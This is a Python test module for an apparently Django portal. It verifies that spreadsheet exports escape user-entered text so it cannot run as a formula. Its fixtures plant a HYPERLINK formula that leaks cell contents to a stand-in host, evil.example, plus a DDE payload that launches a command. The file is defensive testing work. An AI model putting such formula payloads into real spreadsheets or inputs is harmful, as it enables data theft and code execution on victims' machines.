"""Text typed by focal points comes out of every spreadsheet the portal writes as text, never as a
formula (issue 13, finding 8): the admin's XLSX and CSV exports of commitments, the roster and
participants, and the roster-matching shortlist."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.utils import timezone

from network.models import RosterMember
from resolutions.models import Commitment
from tests.admin import test_pages as admin_tests
from tests.admin.test_import_export import CSV_FORMAT, XLSX_FORMAT
from tests.conftest import MODEL_BACKEND
from tests.factories import CommitmentFactory, ParticipantFactory, RosterMemberFactory
from tests.network import test_matching
from trainings.models import Participant

programme = admin_tests.programme
edition = admin_tests.edition
roster = test_matching.roster
vocabulary = test_matching.vocabulary

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
OTHER_PREFIXES = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def exported(client, model, file_format):
    url = admin_tests.admin_url(model, "export")
    data = admin_tests.form_fields(client.get(url))
    data["format"] = file_format
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def xlsx_cells(content: bytes) -> list:
    """Every cell of the first sheet, as openpyxl reads it (formulas stay formulas)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def planted(paragraph_training, turkiye, senegal, edition):
    CommitmentFactory(
        state=turkiye,
        paragraph=paragraph_training,
        title=FORMULA,
        target_quantity=None,
        unit="actions",
        pledged_on=timezone.localdate(),
    )
    for index, text in enumerate(OTHER_PREFIXES):
        CommitmentFactory(
            state=turkiye,
            paragraph=paragraph_training,
            title=text,
            target_quantity=None,
            unit="actions",
            pledged_on=timezone.localdate(),
        )
        RosterMemberFactory(full_name=f"{text} {index}", gender="male")
    RosterMemberFactory(full_name=FORMULA, gender="female", nominating_state=senegal)
    ParticipantFactory(edition=edition, full_name=FORMULA, gender="male", state=senegal)


@pytest.mark.parametrize("model", [Commitment, RosterMember, Participant], ids=str)
def test_admin_xlsx_exports_hold_no_formula(secretariat_client, planted, model):
    cells = xlsx_cells(exported(secretariat_client, model, XLSX_FORMAT))

    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert formulas == []
    assert "'" + FORMULA in texts


@pytest.mark.parametrize("model", [Commitment, RosterMember, Participant], ids=str)
def test_admin_csv_exports_start_no_cell_with_a_formula_character(
    secretariat_client, planted, model
):
    content = exported(secretariat_client, model, CSV_FORMAT).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@"))] == []
    assert "'" + FORMULA in cells


def test_the_roster_shortlist_holds_no_formula(client, secretariat, roster, vocabulary):
    ahmed = RosterMember.objects.get(full_name="Ahmed")
    ahmed.full_name = FORMULA
    ahmed.save()
    client.force_login(secretariat, backend=MODEL_BACKEND)

    response = client.get(test_matching.PAGE, test_matching.query(vocabulary, format="xlsx"))

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert "'" + FORMULA in [cell.value for cell in cells]
